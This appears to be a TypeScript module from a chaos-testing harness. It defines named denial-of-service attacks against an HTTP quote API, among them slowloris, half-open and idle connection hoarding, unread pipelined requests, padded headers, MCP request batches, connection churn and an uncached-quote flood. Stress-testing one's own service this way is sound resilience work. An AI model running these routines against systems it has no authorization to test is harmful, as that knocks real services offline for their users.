import { Agent, request } from 'node:http'
import { connect, type Socket } from 'node:net'
import { chainId } from '../chaos/encodePlan.js'

/** Target of an attack, the attacker's address on this machine, and the signal that ends the attack. */
export type Target = {
  readonly host: string
  readonly port: number
  readonly from: string
  readonly signal: AbortSignal
}

/** Attacks until it is stopped, and then keeps its connections open. */
export type Attack = (target: Target) => void

const headOf = (path: string, more = '') => `GET ${path} HTTP/1.1\r\nhost: x\r\n${more}\r\n`
const postOf = (path: string, body: string, type = 'application/json') =>
  `POST ${path} HTTP/1.1\r\nhost: x\r\naccept: application/json, text/event-stream\r\ncontent-type: ${type}\r\ncontent-length: ${body.length}\r\n\r\n${body}`

const list = (id: number) => ({ jsonrpc: '2.0', id, method: 'tools/list' })
const tenLists = JSON.stringify(Array.from({ length: 10 }, (_, id) => list(id)))
const quote = `/api/quote?chain=${chainId}&out=USDC`

/** All attacks by name; the numbers are connections, or actions per second. */
export const attacks: Readonly<Record<string, Attack>> = {
  slowloris: (target) =>
    holdMany(target, 500, (socket) => {
      socket.write('GET /api/health HTTP/1.1\r\nx: ')
      const drip = setInterval(() => {
        if (!socket.writable || target.signal.aborted) clearInterval(drip)
        else socket.write('a')
      }, 1_000)
    }),
  halfClosed: (target) =>
    holdMany(target, 500, (socket) => {
      socket.write('GET /api/health')
      socket.end()
    }),
  silent: (target) => holdMany(target, 2_005, () => {}),
  unread: (target) =>
    holdMany(target, 400, (socket) => pipeline(target, socket, headOf('/api/openapi.json'))),
  unreadQuotes: (target) =>
    holdMany(target, 400, (socket) =>
      pipeline(target, socket, headOf(`${quote}&in=WETH&amountIn=7`)),
    ),
  blanks: (target) =>
    perSecond(target, 60, () =>
      send(target, postOf('/api/quote/batch', '{}', `application/json${' '.repeat(7_500)}x`)),
    ),
  streams: (target) => {
    let amount = 10 ** 20
    holdMany(target, 200, (socket) => {
      socket.write(
        headOf(`/api/quote/stream?chain=${chainId}&in=WETH&out=USDC&amountIn=${BigInt(amount)}`),
      )
      amount += 10 ** 10
    })
  },
  exact: (target) =>
    perSecond(target, 30, () =>
      send(target, headOf(`${quote}&in=${madeUp()}&amountIn=7&exact=1`, 'connection: close\r\n')),
    ),
  mcp: (target) => perSecond(target, 10, () => send(target, postOf('/mcp', tenLists))),
  hosts: (target) =>
    perSecond(target, 500, () => send(target, headOf('/api/health', 'host: y\r\n'))),
  churn: (target) =>
    perSecond(target, 500, () => {
      const socket = open(target)
      socket.write(headOf('/api/health'), () => socket.resetAndDestroy())
    }),
  flood: (target) => flood(target),
}

function madeUp(): string {
  const digits = () => Math.random().toString(16).slice(2, 12).padEnd(10, '0')
  return `0x${digits()}${digits()}${digits()}${digits()}`
}

function open({ from: localAddress, host, port }: Target): Socket {
  const socket = connect({ host, port, localAddress, allowHalfOpen: true })
  socket.on('error', () => {})
  return socket
}

/** Sends one request and leaves the connection open. */
function send(target: Target, bytes: string): void {
  open(target).resume().write(bytes)
}

/** Sends a hundred requests and then one more each second, and never reads a response. */
function pipeline(target: Target, socket: Socket, head: string): void {
  socket.pause()
  socket.write(head.repeat(100))
  const more = setInterval(() => {
    if (target.signal.aborted || socket.destroyed) clearInterval(more)
    else socket.write(head)
  }, 1_000)
}

/** Keeps `count` connections. For each one that the service ends, opens another and keeps the old one. */
function holdMany(target: Target, count: number, begin: (socket: Socket) => void): void {
  const hold = () => {
    if (target.signal.aborted) return
    const socket = open(target).resume()
    begin(socket)
    let isReplaced = false
    const replace = () => {
      if (!isReplaced) setTimeout(hold, 500)
      isReplaced = true
    }
    socket.once('end', replace)
    socket.once('close', replace)
  }
  for (let index = 0; index < count; index++) setTimeout(hold, (index / count) * 1_000)
}

function perSecond({ signal }: Target, rate: number, act: () => void): void {
  const startedAt = performance.now()
  let done = 0
  const timer = setInterval(() => {
    if (signal.aborted) return clearInterval(timer)
    const due = ((performance.now() - startedAt) / 1_000) * rate
    for (; done < due; done++) act()
  }, 5)
}

/** Requests uncached quotes as fast as 200 concurrent callers can. */
function flood({ from: localAddress, host, port, signal }: Target): void {
  const agent = new Agent({ keepAlive: true, maxSockets: 200 })
  let amount = 10 ** 13
  const ask = () => {
    if (signal.aborted) return
    const path = `${quote}&in=WETH&amountIn=${amount++}`
    const sent = request({ agent, host, port, localAddress, path }, (answer) =>
      // Each caller sends its next request soon after the response, but not at once.
      answer.resume().on('end', () => setTimeout(ask, 20)),
    )
    sent.on('error', () => setTimeout(ask, 20))
    sent.end()
  }
  for (let index = 0; index < 200; index++) ask()
}
